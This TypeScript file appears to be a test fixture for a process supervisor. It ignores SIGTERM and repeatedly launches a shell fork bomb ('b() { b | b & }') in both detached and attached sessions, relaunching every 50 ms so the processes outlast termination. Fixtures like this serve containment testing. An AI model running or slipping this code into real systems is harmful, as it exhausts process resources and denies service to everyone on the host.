import { spawn } from 'node:child_process'
import { tried } from './tried.ts'

/** Doubles itself without end, in sessions of their own, and cares for no signal. */
// Said before the bomb, which may end the app before it says another word.
await tried('care for no signal', () => void process.on('SIGTERM', () => {}))
fork()
// A shell that may not fork any more gives up, so all of a bomb may be over before anybody counts: it is lit again and again.
setInterval(fork, 50)

function fork(): void {
  for (const detached of [true, false]) {
    const bomb = spawn('/bin/sh', ['-c', `trap '' TERM; b() { b | b & }; b; b; while :; do b; done`], {
      stdio: 'ignore',
      detached,
    })
    bomb.on('error', () => {})
  }
}
